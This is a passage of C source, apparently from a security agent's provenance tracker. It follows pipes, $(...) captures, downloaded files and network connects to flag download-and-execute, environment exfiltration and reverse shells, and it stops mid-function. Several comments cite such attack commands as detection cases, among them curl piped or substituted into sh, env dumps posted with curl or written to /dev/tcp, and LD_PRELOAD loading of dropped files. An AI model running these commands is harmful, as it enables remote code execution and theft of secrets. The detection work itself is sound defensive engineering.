/* A pipe the shell had itself (its own output, say): not one it made for $(...). */
static bool holds_pipe(const struct bw_proc *p, uint64_t id)
{
	for (int fd = 0; fd < 3; fd++)
		if (is_pipe(&p->stdio[fd]) && p->stdio[fd].id == id)
			return true;
	return false;
}

static void read_text_facts(struct provenance *pv, struct bw_proc *p, bool connected);

void prov_on_exec(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
		  const struct bw_event_view *v, struct prov_rejudge *out)
{
	const struct bw_proc *owner;
	struct prov_pipe *pp;
	const char *base;
	uint32_t tags;

	memset(out, 0, sizeof(*out));
	if (!tables(pv))
		return;
	base = program_base(p);
	p->prov = classify(p, base) | (p->prov & BW_PROC_PROV_CONNECTED_BEFORE_EXEC) |
		  carried_tags(pv, p, base);
	if (writes_to_fd_arg(p)) {
		p->prov |= PROV_F_FD_WRITER;
		pv->fd_writers++;
	}
	if (is_pipe(&p->stdio[0]) && (p->stdio[0].mode & BW_STDIO_READ)) {
		pp = pipe_get(pv, p->stdio[0].id);
		ref_add(pp->readers, &pp->n_readers, p);
	}
	for (int fd = 1; fd <= 2; fd++) {
		if (!is_pipe(&p->stdio[fd]) || !(p->stdio[fd].mode & BW_STDIO_WRITE))
			continue;
		pp = pipe_get(pv, p->stdio[fd].id);
		ref_add(pp->writers, &pp->n_writers, p);
	}
	/*
	 * Output to a pipe no program reads may be a command substitution,
	 * $(...), read by the shell that started the writer: remember it,
	 * judged when that shell starts an inline program.
	 */
	if (is_pipe(&p->stdio[1]) && (owner = program_owner(p->parent)) &&
	    !holds_pipe(owner, p->stdio[1].id)) {
		struct prov_subst *s = &pv->substs[pv->n_substs++ % PROV_SUBSTS];

		s->owner = (struct prov_ref){ owner->pid, owner->start_ns };
		s->writer = (struct prov_ref){ p->pid, p->start_ns };
		s->pipe = p->stdio[1].id;
	}
	feed_outputs(pv, t, p, out);
	/* `curl … | tee >(sh)` with sh started first */
	if ((p->prov & PROV_F_FD_WRITER) && input_tags(pv, p))
		rejudge_fd_readers(pv, p, out);
	if (p->prov & TALKS_TO_NETWORK)
		rejudge_writers(pv, t, p, out);
	tags = writer_tags(pv, p);
	/* `curl URL > file`, `base64 -d > file`: the shell opened it for them. */
	if (tags && p->stdio[1].kind == BW_STDIO_FILE && (p->stdio[1].mode & BW_STDIO_WRITE))
		drop_record(pv, v->stdio_path[1], p, tags, out);
	read_text_facts(pv, p, false);
}

/*
 * p's first connect since its exec to an IP peer that can carry data:
 * name lookups are not downloads, refused connects carried nothing.
 */
static bool first_data_connect(const struct bw_proc *p, const struct bw_connect_info *c)
{
	return c->port != 53 && (!c->result || c->result == -EINPROGRESS) &&
	       (c->family == AF_INET || c->family == AF_INET6) &&
	       !(p->prov & BW_PROC_PROV_CONNECTED);
}

void prov_on_connect(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
		     const struct bw_connect_info *c, struct prov_rejudge *out)
{
	bool fed_since_exec = p->prov & BW_PROV_NETWORK; /* a downloader by name */
	uint32_t tags;

	memset(out, 0, sizeof(*out));
	if (!tables(pv) || !first_data_connect(p, c))
		return;
	p->prov |= BW_PROV_NETWORK | BW_PROC_PROV_CONNECTED;
	if (fed_since_exec)
		return;
	feed_outputs(pv, t, p, out);
	/* What it was handed is now sent: `env | python3 post.py` */
	if (sends_tags(pv, t, p))
		rejudge_add(out, p);
	rejudge_writers(pv, t, p, out);
	rejudge_fed_children(pv, p, out);
	/* `python3 fetch.py > file`: the shell opened the file before anyone knew. */
	tags = writer_tags(pv, p);
	if (tags && p->stdout_file)
		drop_record(pv, p->stdout_file, p, tags, out);
}

/* Whether s is a capture of owner's, the shell that read its pipe. */
static bool captured_by(const struct prov_subst *s, const struct bw_proc *owner)
{
	return ref_is(&s->owner, owner);
}

/* What s's pipe carried; 0 when a program read it (a pipeline, not a substitution). */
static uint32_t capture_tags(struct provenance *pv, const struct prov_subst *s)
{
	const struct prov_pipe *pp = pipe_find(pv, s->pipe);

	return pp && !pp->n_readers ? pp->tags : 0;
}

/*
 * What a fork that ran no program holds from the network or a decoder:
 * it or its shell (up to the nearest process that ran a program) talked
 * to the network (bash's /dev/tcp), or the shell captured such a
 * program's output with $(...) (x=$(curl ...)).
 */
static uint32_t shell_memory_tags(struct provenance *pv, const struct bw_proc *p,
				  const struct bw_proc *owner)
{
	uint32_t tags = 0, n = pv->n_substs < PROV_SUBSTS ? pv->n_substs : PROV_SUBSTS;

	for (; p; p = p == owner ? NULL : p->parent)
		if (p->prov & BW_PROC_PROV_CONNECTED)
			tags |= BW_PROV_NETWORK;
	for (uint32_t i = 0; i < n; i++)
		if (captured_by(&pv->substs[i], owner))
			tags |= capture_tags(pv, &pv->substs[i]);
	return tags & DATA_TAGS;
}

/*
 * A fork of a shell that ran no program wrote into a pipe (`echo "$x" |
 * sh`, a while-read loop over a /dev/tcp socket): what it wrote is what
 * its shell held.
 */
void prov_on_exit(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
		  uint64_t stdout_pipe, struct prov_rejudge *out)
{
	const struct bw_proc *owner;
	uint32_t tags;

	memset(out, 0, sizeof(*out));
	if (!stdout_pipe || p->n_execs || !pv->pipes || !(owner = program_owner(p)) ||
	    !(tags = shell_memory_tags(pv, p, owner)))
		return;
	/* `echo` may be done before its reader's exec: the pipe is met here first. */
	pipe_get(pv, stdout_pipe);
	pipe_feed(pv, t, stdout_pipe, tags, out, 0);
}

/*
 * A dropped file renamed, or hard-linked (keep: the old name stays a
 * drop too), to path: the new name is the same download.
 */
static void drop_move(struct provenance *pv, struct prov_drop *d, const char *path, bool keep,
		      struct prov_rejudge *out)
{
	struct prov_drop moved = *d, *to;

	if (keep) {
		moved.writer_exe = strdup(d->writer_exe);
		moved.writer_cmd = strdup(d->writer_cmd);
	} else {
		memset(d, 0, sizeof(*d));
		free(moved.path);
	}
	moved.path = strdup(path);
	to = drop_slot(pv, path);
	drop_clear(to); /* may be d itself: then the old name is forgotten */
	*to = moved;
	if (!to->path || !to->writer_exe || !to->writer_cmd) {
		drop_clear(to); /* out of memory: forget it rather than half of it */
		return;
	}
	out->dropped = to->path;
	out->dropped_tags = to->tags | BW_PROV_WRITTEN;
}

void prov_on_file(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
		  const struct bw_file_info *f, struct prov_rejudge *out)
{
	struct prov_drop *d;
	uint32_t tags;

	memset(out, 0, sizeof(*out));
	if (!f->op || !f->path || !tables(pv))
		return;
	if (!strcmp(f->op, "open-write")) {
		tags = writer_tags(pv, p);
		if (tags)
			drop_record(pv, f->path, p, tags, out);
		else if ((d = drop_find(pv, f->path)))
			drop_clear(d); /* rewritten by a plain process: no longer the download */
	} else if ((!strcmp(f->op, "rename") || !strcmp(f->op, "link")) && f->path2 &&
		   f->path2[0] == '/' && (d = drop_find(pv, f->path))) {
		drop_move(pv, d, f->path2, !strcmp(f->op, "link"), out);
	} else if (!strcmp(f->op, "unlink") && (d = drop_find(pv, f->path))) {
		drop_clear(d);
	}
}

static uint32_t stdio_kind_prov(const struct bw_stdio *s)
{
	switch (s->kind) {
	case BW_STDIO_PIPE:
		return BW_PROV_PIPE;
	case BW_STDIO_SOCKET:
		return is_ip_socket(s) ? BW_PROV_SOCKET : BW_PROV_LOCAL_SOCKET;
	case BW_STDIO_TTY:
		return BW_PROV_TTY;
	case BW_STDIO_NULL:
		return BW_PROV_NULL;
	case BW_STDIO_FILE:
		return BW_PROV_FILE;
	case BW_STDIO_NONE:
		return BW_PROV_CLOSED;
	default:
		return BW_PROV_OTHER;
	}
}

/* Skip an option's argument for the options that take one. */
static bool takes_arg(const char *base, const char *opt)
{
	static const char *const sh_opts[] = { "-o", "+o", "-O", "+O", "--rcfile", "--init-file",
					       NULL };
	static const char *const py_opts[] = { "-W", "-X", "-Q", NULL };
	static const char *const perl_opts[] = { "-I", "-M", "-m", "-x", NULL };

	if (in_list(shells, base))
		return in_list(sh_opts, opt);
	if (!strncmp(base, "python", 6))
		return in_list(py_opts, opt);
	if (!strncmp(base, "perl", 4))
		return in_list(perl_opts, opt);
	if (!strncmp(base, "node", 4))
		return !strcmp(opt, "-r") || !strcmp(opt, "--require");
	return false;
}

static uint32_t operand_from(const char *a)
{
	if (!strcmp(a, "-") || !strcmp(a, "/dev/stdin") || !strcmp(a, "/proc/self/fd/0") ||
	    !strcmp(a, "/dev/fd/0"))
		return BW_PROG_STDIN;
	if (!strncmp(a, "/dev/fd/", 8) || !strncmp(a, "/proc/self/fd/", 14))
		return BW_PROG_FD;
	return BW_PROG_FILE;
}

/* program_from()'s reading of the command line. */
static uint32_t program_in_argv(const struct bw_proc *p, const char **operand)
{
	const char *base = program_base(p), *a;
	bool sh = in_list(shells, base);
	uint32_t from;

	*operand = NULL;
	if (!sh && strncmp(base, "python", 6) && strncmp(base, "perl", 4) &&
	    strncmp(base, "ruby", 4) && strcmp(base, "node") && strcmp(base, "nodejs") &&
	    strncmp(base, "php", 3) && strncmp(base, "lua", 3))
		return 0;
	if (inline_program(p, base))
		return BW_PROG_ARGUMENT;
	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++) {
		a = p->argv.v[i];
		if (!strcmp(a, "--")) {
			if (i + 1 >= p->argv.n)
				return BW_PROG_STDIN;
			a = p->argv.v[i + 1];
			from = operand_from(a);
			*operand = from == BW_PROG_FILE ? a : NULL;
			return from;
		}
		if (!strcmp(a, "-"))
			return BW_PROG_STDIN;
		if (a[0] == '-' || (sh && a[0] == '+')) {
			if (sh && a[1] != '-' && strchr(a + 1, 's'))
				return BW_PROG_STDIN;
			if (!strncmp(base, "python", 6) && !strcmp(a, "-m"))
				return BW_PROG_MODULE;
			if (takes_arg(base, a))
				i++;
			continue;
		}
		from = operand_from(a);
		*operand = from == BW_PROG_FILE ? a : NULL;
		return from;
	}
	return BW_PROG_STDIN;
}

/*
 * Where an interpreter takes its program from; 0 for other programs.
 * *operand: the script file's path as given, when it is a file, or the
 * file on stdin that a program read from stdin is (`sh < script`).
 */
static uint32_t program_from(const struct bw_proc *p, const char **operand)
{
	uint32_t from = program_in_argv(p, operand);

	if (from == BW_PROG_STDIN && p->stdin_file)
		*operand = p->stdin_file;
	return from;
}

/*
 * The next word of *q (separated by any of seps) copied into buf, *q moved
 * past it; NULL at the end. A word that does not fit is skipped.
 */
static char *next_word(const char **q, const char *seps, char *buf, size_t size)
{
	size_t l;

	for (;;) {
		*q += strspn(*q, seps);
		l = strcspn(*q, seps);
		if (!l)
			return NULL;
		*q += l;
		if (l < size) {
			memcpy(buf, *q - l, l);
			buf[l] = '\0';
			return buf;
		}
	}
}

/* The dropped file among the names in list (separated by any of seps), or NULL. */
static struct prov_drop *drop_in_list(struct provenance *pv, const struct bw_proc *p,
				      const char *list, const char *seps)
{
	char name[PATH_MAX];
	struct prov_drop *d;

	while (next_word(&list, seps, name, sizeof(name)))
		if ((d = drop_named(pv, p, name)))
			return d;
	return NULL;
}

/* A module NODE_OPTIONS loads before the program (--require X, -r X, --import=X ...) that was dropped. */
static struct prov_drop *drop_in_node_options(struct provenance *pv, const struct bw_proc *p,
					      const char *opts)
{
	static const char *const loads[] = { "--require", "-r", "--import", "--loader",
					     "--experimental-loader", NULL };
	char tok[PATH_MAX], *eq;
	bool value_next = false;
	struct prov_drop *d;

	while (next_word(&opts, " \t", tok, sizeof(tok))) {
		if (value_next) {
			value_next = false;
			if ((d = drop_named(pv, p, tok)))
				return d;
		} else if (tok[0] == '-' && (eq = strchr(tok, '='))) {
			*eq = '\0';
			if (in_list(loads, tok) && (d = drop_named(pv, p, eq + 1)))
				return d;
		} else {
			value_next = in_list(loads, tok);
		}
	}
	return NULL;
}

/*
 * A dropped file the exec loads through its environment: a preloaded or
 * audit library, bash's BASH_ENV start-up file, node's --require module.
 */
static struct prov_drop *drop_in_env(struct provenance *pv, const struct bw_proc *p)
{
	struct prov_drop *d = NULL;

	for (uint32_t i = 0; i < p->env.n && !d; i++) {
		const char *e = p->env.v[i];

		if (!strncmp(e, "LD_PRELOAD=", 11) || !strncmp(e, "LD_AUDIT=", 9))
			d = drop_in_list(pv, p, strchr(e, '=') + 1, ": \t");
		else if (!strncmp(e, "BASH_ENV=", 9))
			d = drop_named(pv, p, e + 9);
		else if (!strncmp(e, "NODE_OPTIONS=", 13))
			d = drop_in_node_options(pv, p, e + 13);
	}
	return d;
}

/*
 * The dropped file p's exec runs: its executable, the script it was
 * started as, or code its environment makes it load.
 */
static struct prov_drop *drop_of_program(struct provenance *pv, const struct bw_proc *p,
					 const char *operand)
{
	struct prov_drop *d = drop_find(pv, p->exe);
	uint32_t i;

	if (!d)
		d = drop_named(pv, p, p->filename);
	if (!d)
		d = drop_named(pv, p, operand);
	if (!d && (i = loaded_program(p)))
		d = drop_named(pv, p, p->argv.v[i]);
	if (!d && pv->drops_recorded)
		d = drop_in_env(pv, p);
	return d;
}

/* The child of owner that p is, or descends from; NULL if none. */
static const struct bw_proc *child_branch(const struct bw_proc *owner, const struct bw_proc *p)
{
	for (; p && p->parent; p = p->parent)
		if (p->parent == owner)
			return p;
	return NULL;
}

/*
 * What the shell that started p captured with $(...) or <(...) for it:
 * the output of a pipe no program read, written by the branch of the
 * shell forked right before p's (bash -c "$(curl ...)", bash <(curl ...)).
 * A capture followed by other commands before p is not counted: without
 * the bytes, adjacency is what ties the capture to the program. A shell
 * that runs its last command in place (bash -c 'x=$(curl ...); sh -c
 * "$x"' execs sh itself) captured for the program it became: the branch
 * it forked last.
 */
static uint32_t substitution_tags(struct provenance *pv, const struct bw_proctab *t,
				  const struct bw_proc *p)
{
	const struct bw_proc *owner = program_owner(p->parent), *mine = NULL, *w, *k;
	uint32_t tags = 0, n = pv->n_substs < PROV_SUBSTS ? pv->n_substs : PROV_SUBSTS;
	bool in_place = p->n_execs > 1;

	if (in_place)
		owner = p;
	else if (!owner || !(mine = child_branch(owner, p)))
		return 0;
	for (uint32_t i = 0; i < n; i++) {
		const struct prov_subst *s = &pv->substs[i];

		if (!captured_by(s, owner))
			continue;
		w = ref_proc(t, &s->writer);
		k = w ? child_branch(owner, w) : NULL;
		if (!k || (in_place ? k != owner->last_child
				    : k->next_sibling != mine && mine->next_sibling != k))
			continue;
		tags |= capture_tags(pv, s);
	}
	return tags & DATA_TAGS;
}

/*
 * The programs (by exe and argv[0] basename, up to max) whose network or
 * decoded output shell p captured itself, with $(...) or <(...); their
 * tags added to *tags.
 */
static size_t captured_writers(struct provenance *pv, const struct bw_proctab *t,
			       const struct bw_proc *p, const char **names, size_t max,
			       uint32_t *tags)
{
	uint32_t n = pv->n_substs < PROV_SUBSTS ? pv->n_substs : PROV_SUBSTS, ct;
	const struct bw_proc *w;
	size_t k = 0;

	for (uint32_t i = 0; i < n && k + 2 <= max; i++) {
		const struct prov_subst *s = &pv->substs[i];

		if (!captured_by(s, p) || !(ct = capture_tags(pv, s) & DATA_TAGS) ||
		    !(w = ref_proc(t, &s->writer)))
			continue;
		*tags |= ct;
		names[k++] = program_base(w);
		if (w->argv.n)
			names[k++] = path_basename(w->argv.v[name_index(w)]);
	}
	return k;
}

/*
 * The script file p runs, as p sees it: through its root (a runner pod's
 * file system) while it lives, else by the path itself.
 */
static int read_program(const struct bw_proc *p, const char *operand, char **text, size_t *len)
{
	char path[PATH_MAX + 32];
	int root = snprintf(path, sizeof(path), "/proc/%u/root", p->pid), n, err;

	if (operand[0] == '/')
		n = snprintf(path + root, sizeof(path) - (size_t)root, "%s", operand);
	else if (p->cwd)
		n = snprintf(path + root, sizeof(path) - (size_t)root, "%s/%s", p->cwd, operand);
	else
		return -ENOENT;
	if (n < 0 || (size_t)n >= sizeof(path) - (size_t)root)
		return -ENAMETOOLONG;
	err = script_read(path, text, len);
	/* Gone already, a zombie (or no procfs): the path as the host has it. */
	if (err)
		err = script_read(path + root, text, len);
	return err;
}

/*
 * The text of p's program when it is on its command line (-c) or in a
 * script file: NUL-terminated in *text (to free), its length in *len; 0
 * or -errno (-ENOENT: from elsewhere).
 */
static int program_text(const struct bw_proc *p, uint32_t from, const char *operand, char **text,
			size_t *len)
{
	const char *prog;

	if ((from & BW_PROG_FILE) && operand)
		return read_program(p, operand, text, len);
	if (!(from & BW_PROG_ARGUMENT) || !(prog = inline_program(p, program_base(p))))
		return -ENOENT;
	*text = strdup(prog);
	*len = strlen(prog);
	return *text ? 0 : -ENOMEM;
}

/*
 * What shell p captured and then evaluates in itself (eval "$(curl …)",
 * source <(wget …), x=$(curl …); eval "$x"): no exec shows that, its
 * program's text does, in its inline program or its script file. Read
 * once p is known to hold such a capture, and again only after another
 * one, not at each record of p that is judged.
 */
static uint32_t evaluated_capture_tags(struct provenance *pv, const struct bw_proctab *t,
				       struct bw_proc *p, uint32_t from, const char *operand)
{
	const char *names[16];
	uint32_t tags = 0;
	size_t n, len;
	char *text = NULL;

	if (!(p->prov & (PROV_F_CAPTURED | PROV_F_CAPTURE_EVALUATES)) ||
	    !(n = captured_writers(pv, t, p, names, sizeof(names) / sizeof(names[0]), &tags)))
		return 0;
	if ((p->prov & PROV_F_CAPTURED) && !program_text(p, from, operand, &text, &len)) {
		if (script_evaluates_capture(text, len, names, n))
			p->prov |= PROV_F_CAPTURE_EVALUATES;
		free(text);
	}
	p->prov &= ~PROV_F_CAPTURED;
	return p->prov & PROV_F_CAPTURE_EVALUATES ? tags : 0;
}

/* Whether p's argv names the file at path: whole, or by its name from p's cwd. */
static bool argv_names_file(const struct bw_proc *p, const char *path)
{
	const char *base = path_basename(path);
	size_t dir = (size_t)(base - path);
	bool in_cwd = p->cwd && dir > 1 && strlen(p->cwd) == dir - 1 &&
		      !strncmp(p->cwd, path, dir - 1);

	for (uint32_t i = name_index(p) + 1; i < p->argv.n; i++) {
		const char *a = p->argv.v[i], *hit;

		if (strstr(a, path))
			return true;
		/* `-F f=@env.txt`, `--post-file=env.txt`: the name ends the argument */
		if (in_cwd && *base && (hit = strstr(a, base)) && hit[strlen(base)] == '\0' &&
		    (hit == a || strchr("@=:/", hit[-1])))
			return true;
	}
	return false;
}

/*
 * A dump of the environment written to a file (`env > e.txt`, `printenv |
 * base64 > x`), then handed to p by name (`curl -F f=@e.txt`, `wget
 * --post-file=x`, a script's path argument) or on its stdin (`curl -d @- <
 * x`). Only searched once the job wrote such a dump.
 */
static uint32_t env_file_tags(struct provenance *pv, const struct bw_proc *p)
{
	const struct prov_drop *d;

	if (!pv->env_drops_recorded)
		return 0;
	if (p->stdin_file && (d = drop_find(pv, p->stdin_file)) && (d->tags & BW_PROV_ENVIRONMENT))
		return BW_PROV_ENVIRONMENT;
	for (size_t i = 0; i < PROV_DROPS; i++) {
		d = &pv->drops[i];
		if (d->path && (d->tags & BW_PROV_ENVIRONMENT) && argv_names_file(p, d->path))
			return BW_PROV_ENVIRONMENT;
	}
	return 0;
}

/*
 * What xargs (or parallel) read and made p's arguments of (`env | xargs
 * -I{} curl -d {} URL`): its input, when p is its child.
 */
static uint32_t xargs_tags(struct provenance *pv, const struct bw_proc *p)
{
	static const char *const builders[] = { "xargs", "parallel", NULL };
	const struct bw_proc *up = p->parent;

	return up && up->n_execs && in_list(builders, program_base(up)) ? input_tags(pv, up) : 0;
}

/*
 * What a program that talks to the network was handed: on stdin, in $(...)
 * arguments, in a file, in the arguments xargs built for it; or what it
 * takes itself (an environ file it is given, `curl -d @/proc/self/environ`;
 * the whole environment, in its own code).
 */
static uint32_t sends_tags(struct provenance *pv, const struct bw_proctab *t,
			   const struct bw_proc *p)
{
	if (!(p->prov & TALKS_TO_NETWORK))
		return 0;
	return (input_tags(pv, p) | substitution_tags(pv, t, p) | env_file_tags(pv, p) |
		xargs_tags(pv, p) | (p->prov & BW_PROV_ENVIRONMENT) |
		(p->prov & PROV_F_TEXT_ENV_SENT ? BW_PROV_ENVIRONMENT : 0)) &
	       DATA_TAGS;
}

/*
 * The text of a program read from stdin: the file there (a here-document
 * bash spilled to a file, `python3 < x.py`) through the process's own
 * descriptor, or, for a pipe only its parent writes (a here-document),
 * the program of the shell that wrote it.
 */
static int stdin_program_text(struct provenance *pv, const struct bw_proc *p, char **text,
			      size_t *len)
{
	const struct bw_proc *owner;
	const char *operand;
	char path[40];
	uint32_t from;

	if (p->stdin_file) {
		snprintf(path, sizeof(path), "/proc/%u/fd/0", p->pid);
		return script_read(path, text, len);
	}
	if (!stdin_from_parent(p, stdin_pipe(pv, p)) || !(owner = program_owner(p->parent)) ||
	    !in_list(shells, program_base(owner)))
		return -ENOENT;
	from = program_from(owner, &operand);
	return program_text(owner, from, operand, text, len);
}

/*
 * The reader of p's program text by its language, or NULL: Python,
 * Node.js, Perl, Ruby. *installed_late: a Perl or Ruby script installed
 * under /usr is read only once it connects (autotools and debhelper run
 * many that never do); every other script file at the exec.
 */
static unsigned (*text_facts_of(const struct bw_proc *p, bool *installed_late))(const char *,
										  size_t)
{
	const char *base = program_base(p);

	*installed_late = false;
	if (!strncmp(base, "python", 6))
		return python_text_facts;
	if (!strcmp(base, "node") || !strcmp(base, "nodejs"))
		return node_text_facts;
	*installed_late = true;
	if (!strncmp(base, "perl", 4))
		return perl_text_facts;
	if (!strncmp(base, "ruby", 4))
		return ruby_text_facts;
	return NULL;
}

/*
 * What p's program text does (TEXT_*), read once per exec: a script file
 * at the exec itself (a script may be gone by the time it connects: a
 * stager removed once it ran; the kernel wakes the agent for an
 * interpreter's exec so that it is read while the interpreter starts), but
 * a Perl or Ruby script installed under /usr at its first connect
 * (connected: true); a here-document at its first connect (its shell's
 * text stays).
 */
static void read_text_facts(struct provenance *pv, struct bw_proc *p, bool connected)
{
	bool late;
	unsigned (*facts_of)(const char *, size_t) = text_facts_of(p, &late);
	const char *operand;
	char *text = NULL;
	unsigned facts;
	uint32_t from;
	size_t len;
	int err;

	if (!facts_of || (p->prov & PROV_F_TEXT_CHECKED))
		return;
	from = program_from(p, &operand);
	late = late && operand && !strncmp(operand, "/usr/", 5);
	if (!(from & (connected ? BW_PROG_STDIN | (late ? BW_PROG_FILE : 0)
				: (late ? 0 : BW_PROG_FILE))))
		return;
	p->prov |= PROV_F_TEXT_CHECKED;
	err = from & BW_PROG_STDIN ? stdin_program_text(pv, p, &text, &len)
				   : program_text(p, from, operand, &text, &len);
	if (err)
		return;
	facts = facts_of(text, len);
	free(text);
	p->prov |= (facts & TEXT_FETCH_EVAL ? PROV_F_TEXT_FETCH_EVAL : 0) |
		   (facts & TEXT_ENV_SENT ? PROV_F_TEXT_ENV_SENT : 0);
}

void prov_before_connect(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
			 const struct bw_connect_info *c)
{
	(void)t;
	if (tables(pv) && first_data_connect(p, c))
		read_text_facts(pv, p, true);
}

static bool same_file(const char *a, const char *b)
{
	char ra[PATH_MAX], rb[PATH_MAX];

	return realpath(a, ra) && realpath(b, rb) && !strcmp(ra, rb);
}

/*
 * argv[0] names another program than the one running: not the name it was
 * started by, not its executable's name, and not a path (absolute, or
 * found in the usual directories) that leads to its executable.
 */
static bool name_mismatch(const struct bw_proc *p)
{
	static const char *const dirs[] = { "/usr/local/sbin", "/usr/local/bin", "/usr/sbin",
					    "/usr/bin", "/sbin", "/bin", NULL };
	const char *a0, *b0;
	char path[PATH_MAX];

	if (!p->argv.n || !p->exe || !*p->exe || !p->argv.v[0][0])
		return false;
	a0 = p->argv.v[0];
	b0 = path_basename(a0);
	if (*b0 == '-')
		b0++; /* a login shell */
	if (!strcmp(b0, path_basename(p->exe)) ||
	    (p->filename && !strcmp(b0, path_basename(p->filename))) ||
	    !strncmp(b0, p->comm, sizeof(p->comm) - 1))
		return false;
	if (strchr(a0, '/'))
		return !same_file(a0, p->exe);
	for (const char *const *d = dirs; *d; d++)
		if ((size_t)snprintf(path, sizeof(path), "%s/%s", *d, b0) < sizeof(path) &&
		    same_file(path, p->exe))
			return false;
	return true;
}

/*
 * The policy judges the program the dynamic loader runs as the exec's
 * executable (`ld.so /dev/shm/x` is an exec from /dev/shm): its absolute
 * path, kept in pv until the next call.
 */
static void loaded_exe(struct provenance *pv, const struct bw_proc *p, struct bw_exec_info *info)
{
	char path[PATH_MAX];
	const char *a;
	uint32_t i = loaded_program(p);

	if (!i)
		return;
	a = p->argv.v[i];
	if (a[0] != '/' &&
	    (!p->cwd || (size_t)snprintf(path, sizeof(path), "%s/%s", p->cwd, a) >= sizeof(path)))
		return;
	if (path_normalize(a[0] == '/' ? a : path, pv->loaded_path, sizeof(pv->loaded_path)))
		info->exe = pv->loaded_path;
}

/* How many downloaded files' names a shell's text is searched for. */
#define SOURCED_NAMES_MAX 16

/*
 * What a shell sources that its children downloaded or decoded (`curl -o
 * env.sh URL; source env.sh`, `f=$T/x.sh; wget -O "$f" URL; . "$f"`): read
 * once after each such file, the answer kept in its provenance bits.
 */
static uint32_t sourced_drop_tags(struct provenance *pv, struct bw_proc *p, uint32_t from,
				  const char *operand)
{
	const char *files[SOURCED_NAMES_MAX], *writers[SOURCED_NAMES_MAX];
	struct sourced_names s = { files, 0, writers, 0 };
	uint32_t tags = 0;
	size_t len;
	char *text;

	if (!(p->prov & (PROV_F_DROP_BY_CHILD | PROV_F_SOURCES_DROP)))
		return 0;
	for (size_t i = 0; i < PROV_DROPS; i++) {
		const struct prov_drop *d = &pv->drops[i];

		if (!d->path || !(d->tags & (BW_PROV_NETWORK | BW_PROV_DECODER)))
			continue;
		tags |= d->tags & (BW_PROV_NETWORK | BW_PROV_DECODER);
		if (s.n_files < SOURCED_NAMES_MAX) {
			files[s.n_files++] = path_basename(d->path);
			writers[s.n_writers++] = path_basename(d->writer_exe);
		}
	}
	if ((p->prov & PROV_F_DROP_BY_CHILD) && s.n_files &&
	    !program_text(p, from, operand, &text, &len)) {
		if (script_sources_file(text, len, &s))
			p->prov |= PROV_F_SOURCES_DROP;
		free(text);
	}
	p->prov &= ~PROV_F_DROP_BY_CHILD;
	return p->prov & PROV_F_SOURCES_DROP ? tags : 0;
}

/*
 * The environment dumped into p, a program that talks to the network, by
 * a builtin of the shell that started it (export -p | curl -d @- …,
 * d=$(declare -x | base64); wget --post-data="$d" …): no exec shows the
 * dump, that shell's text does. Read once per such program.
 */
static uint32_t builtin_env_tags(struct bw_proc *p)
{
	const struct bw_proc *sh;
	const char *names[1], *operand = NULL;
	uint32_t from;
	char *text;
	size_t len;

	if (!(p->prov & TALKS_TO_NETWORK))
		return 0;
	if (!(p->prov & PROV_F_ENV_TEXT_CHECKED)) {
		p->prov |= PROV_F_ENV_TEXT_CHECKED;
		sh = program_owner(p->parent);
		names[0] = program_base(p);
		if (sh && in_list(shells, program_base(sh)) &&
		    (from = program_from(sh, &operand)) &&
		    !program_text(sh, from, operand, &text, &len)) {
			if (script_sends_builtin_env(text, len, names, 1))
				p->prov |= PROV_F_ENV_TEXT_SENT;
			free(text);
		}
	}
	return p->prov & PROV_F_ENV_TEXT_SENT ? BW_PROV_ENVIRONMENT : 0;
}

void prov_fill(struct provenance *pv, const struct bw_proctab *t, struct bw_proc *p,
	       struct bw_exec_info *info)
{
	const char *operand;
	struct prov_drop *d;

	if (!p->n_execs || !tables(pv))
		return;
	info->stdin_prov = stdio_kind_prov(&p->stdio[0]);
	/* An IP socket is its own kind (socket): the reverse-shell rules judge it. */
	if (!is_ip_socket(&p->stdio[0]))
		info->stdin_prov |= input_tags(pv, p);
	info->stdout_prov = stdio_kind_prov(&p->stdio[1]) |
			    (output_to_network(pv, t, p) ? BW_PROV_NETWORK : 0);
	info->stdio_prov = info->stdin_prov | info->stdout_prov | stdio_kind_prov(&p->stdio[2]);
	info->program_from = program_from(p, &operand);
	/*
	 * An inline program comes from what the starting process held: a
	 * $(...) its shell captured, the memory of a process that talked to
	 * the network and then exec'd the interpreter itself, or what xargs
	 * read (`curl … | xargs -0 sh -c`).
	 */
	if (info->program_from & (BW_PROG_ARGUMENT | BW_PROG_FD))
		info->script_prov = substitution_tags(pv, t, p) |
				    (p->prov & BW_PROC_PROV_CONNECTED_BEFORE_EXEC ? BW_PROV_NETWORK : 0) |
				    script_from_parent_tags(p) | xargs_tags(pv, p);
	info->script_prov |= evaluated_capture_tags(pv, t, p, info->program_from, operand) |
			     sourced_drop_tags(pv, p, info->program_from, operand) |
			     (p->prov & PROV_F_TEXT_FETCH_EVAL ? BW_PROV_NETWORK : 0);
	info->sends_prov = sends_tags(pv, t, p) | builtin_env_tags(p);
	/* `env > /dev/tcp/HOST/PORT`, `env | base64 > /dev/tcp/…`: a dump written into a socket */
	if (is_ip_socket(&p->stdio[1]))
		info->sends_prov |= output_tags(pv, p) & BW_PROV_ENVIRONMENT;
	loaded_exe(pv, p, info);
	d = drop_of_program(pv, p, operand);
	if (d)
		info->exe_prov = d->tags | BW_PROV_WRITTEN;
	if (!(p->prov & PROV_F_NAME_CHECKED)) {
		p->prov |= PROV_F_NAME_CHECKED | (name_mismatch(p) ? PROV_F_NAME_MISMATCH : 0);
	}
	info->name_mismatch = p->prov & PROV_F_NAME_MISMATCH;
}

static void tags_json(struct jbuf *jb, const char *key, uint32_t tags)
{
	json_arr_open(jb, key);
	for (unsigned i = 0; i < BW_PROV_COUNT; i++)
		if (tags & (1u << i))
			json_val_strn(jb, policy_prov_name(i), strlen(policy_prov_name(i)));
	json_arr_close(jb);
}

static void writers_json(struct jbuf *jb, const struct bw_proctab *t, const struct prov_pipe *pp)
{
	json_arr_open(jb, "writers");
	for (uint32_t i = 0; i < refs_kept(pp->n_writers); i++) {
		const struct bw_proc *w = ref_proc(t, &pp->writers[i]);

		json_obj_open(jb);
		json_kv_u64(jb, "pid", pp->writers[i].pid);
		if (w && w->exe)
			json_kv_str(jb, "exe", w->exe);
		json_obj_close(jb);
	}
	json_arr_close(jb);
}

void prov_json(struct provenance *pv, const struct bw_proctab *t, const struct bw_proc *p,
